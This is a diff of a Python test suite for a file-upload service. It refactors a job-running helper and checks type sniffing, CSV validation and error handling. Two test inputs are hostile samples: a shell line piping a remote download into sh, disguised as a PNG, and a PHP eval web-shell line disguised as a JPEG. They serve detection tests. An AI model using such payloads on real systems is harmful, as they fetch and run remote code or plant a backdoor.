@@ -13,8 +13,9 @@ from sqlalchemy import select
 from hub.extensions import db
 from hub.jobs import events
 from hub.models import File
-from tests.files.conftest import jpeg_bytes, png_bytes, run_queued_jobs
+from tests.files.conftest import jpeg_bytes, png_bytes
 from tests.support.helpers import assert_error
+from tests.support.jobs import run_queued_jobs
 
 
 @pytest.fixture
@@ -41,7 +42,7 @@ def _upload(api, name: str, data: bytes, content_type: str, **fields) -> dict:
 def test_image_gets_dimensions_and_a_thumbnail_beside_it(backend, files_client, published):
     api = files_client()
     file = _upload(api, "holiday.jpg", jpeg_bytes(1024, 768), "image/jpeg")
-    assert run_queued_jobs(backend.app) == 1
+    assert len(run_queued_jobs(backend.app, "file.process")) == 1
     done = api.file(file["id"])
     assert done["status"] == "processed" and done["content_type"] == "image/jpeg"
     assert done["metadata"]["kind"] == "image"
@@ -63,7 +64,7 @@ def test_a_script_claiming_to_be_png_is_recognised(backend, files_client, publis
     api = files_client()
     script = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
     file = _upload(api, "cute-cat.png", script, "image/png")
-    run_queued_jobs(backend.app)
+    run_queued_jobs(backend.app, "file.process")
     done = api.file(file["id"])
     assert done["status"] == "processed"
     assert done["content_type"] == "text/x-shellscript" and done["declared_content_type"] == "image/png"
@@ -78,7 +79,7 @@ def test_php_text_claiming_to_be_jpeg_is_recognised(app, base_config, register):
 
     api = FilesClient(Backend("local", app, base_config, lambda: None), register())
     file = _upload(api, "avatar.jpg", b"GIF-ish header?\n<?php eval($_POST['x']); ?>\n", "image/jpeg")
-    run_queued_jobs(app)
+    run_queued_jobs(app, "file.process")
     assert api.file(file["id"])["content_type"] == "application/x-php"
 
 
@@ -91,7 +92,7 @@ def test_csv_with_bad_rows_reports_them(backend, files_client, published):
                           {"name": "plan", "enum": ["free", "pro"]}]}
     file = _upload(api, "users.csv", data, "text/csv", csv_schema=schema)
     assert file["csv_schema"]["columns"][0] == {"name": "email", "type": "email", "required": True}
-    run_queued_jobs(backend.app)
+    run_queued_jobs(backend.app, "file.process")
     done = api.file(file["id"])
     assert done["status"] == "processed" and done["content_type"] == "text/csv"
     csv_meta = done["metadata"]["csv"]
@@ -113,7 +114,7 @@ def test_row_errors_are_capped_in_metadata(app, base_config, register, monkeypat
     data = b"id,n\n" + b"".join(b"%d,x\n" % i for i in range(40))
     file = _upload(api, "n.csv", data, "text/csv",
                    csv_schema={"columns": [{"name": "n", "type": "number"}]})
-    run_queued_jobs(app)
+    run_queued_jobs(app, "file.process")
     csv_meta = api.file(file["id"])["metadata"]["csv"]
     assert len(csv_meta["row_errors"]) == 5 and csv_meta["error_count"] == 40
     assert csv_meta["row_errors_truncated"] is True
@@ -123,7 +124,7 @@ def test_corrupt_image_fails_the_job_and_the_file_says_why(backend, files_client
     api = files_client()
     image = png_bytes(400, 300)
     file = _upload(api, "broken.png", image[: len(image) - 200] + b"\0" * 50, "image/png")
-    run_queued_jobs(backend.app)
+    run_queued_jobs(backend.app, "file.process")
     done = api.file(file["id"])
     assert done["status"] == "failed" and done["error"]["code"] == "IMAGE_CORRUPT"
     assert "could not be decoded" in done["error"]["message"]
@@ -141,7 +142,7 @@ def test_undecodable_csv_fails_with_a_clear_error(app, base_config, register):
     # Valid UTF-8 for the first 100 KB (so it sniffs as CSV), then Latin-1.
     data = b"name,city\n" + b"ann,Oslo\n" * 12000 + "zoë,Zürich\n".encode("latin-1")
     file = _upload(api, "cities.csv", data, "text/csv")
-    run_queued_jobs(app)
+    run_queued_jobs(app, "file.process")
     done = api.file(file["id"])
     assert done["status"] == "failed" and done["error"]["code"] == "CSV_UNDECODABLE"
     assert "UTF-8" in done["error"]["message"]
@@ -153,7 +154,7 @@ def test_declared_csv_that_is_binary_fails(app, base_config, register):
     api = FilesClient(Backend("local", app, base_config, lambda: None), register())
     file = _upload(api, "data.csv", bytes(range(256)) * 10, "text/csv",
                    csv_schema={"columns": [{"name": "a"}]})
-    run_queued_jobs(app)
+    run_queued_jobs(app, "file.process")
     done = api.file(file["id"])
     assert done["status"] == "failed" and done["error"]["code"] == "CSV_UNDECODABLE"
 
@@ -163,7 +164,7 @@ def test_other_files_get_type_and_hash_only(app, base_config, register):
 
     api = FilesClient(Backend("local", app, base_config, lambda: None), register())
     file = _upload(api, "report.pdf", b"%PDF-1.7\n" + b"x" * 5000, "application/pdf")
-    run_queued_jobs(app)
+    run_queued_jobs(app, "file.process")
     done = api.file(file["id"])
     assert done["status"] == "processed" and done["content_type"] == "application/pdf"
     assert done["metadata"] == {"kind": "pdf", "detected": {"description": "PDF document"}}
@@ -175,7 +176,7 @@ def test_progress_is_reported_while_reading(app, base_config, register):
     api = FilesClient(Backend("local", app, base_config, lambda: None), register())
     data = b"a,b\n" + b"1,2\n" * 800_000  # 3.2 MB: several reads
     file = _upload(api, "big.csv", data, "text/csv")
-    run_queued_jobs(app)
+    run_queued_jobs(app, "file.process")
     steps = [e["progress"] for e in api.client.get(
         f"/api/v1/jobs/{file['job_id']}/events?per_page=100", headers=api.account.headers,
     ).get_json()["data"] if e["kind"] == "progress"]
@@ -193,7 +194,7 @@ def test_publish_and_processed_row_commit_together(app, base_config, register):
     file = _upload(api, "a.txt", b"hello\n", "text/plain")
     events.subscribe("file.processed", broken)
     try:
-        run_queued_jobs(app)
+        run_queued_jobs(app, "file.process")
     finally:
         events._listeners["file.processed"].remove(broken)
     done = api.file(file["id"])
@@ -209,7 +210,7 @@ def test_a_file_deleted_before_its_job_runs_is_skipped(app, base_config, registe
     with app.app_context():  # the row goes, but the job was already taken by a worker
         db.session.delete(db.session.scalar(select(File).where(File.id == uuid.UUID(file["id"]))))
         db.session.commit()
-    run_queued_jobs(app)
+    run_queued_jobs(app, "file.process")
     job = api.job(file["job_id"])
     assert job["status"] == "succeeded" and job["result"]["skipped"] == "the file was deleted"
     assert_error(api.get(f"/{file['id']}"), 404, "NOT_FOUND")
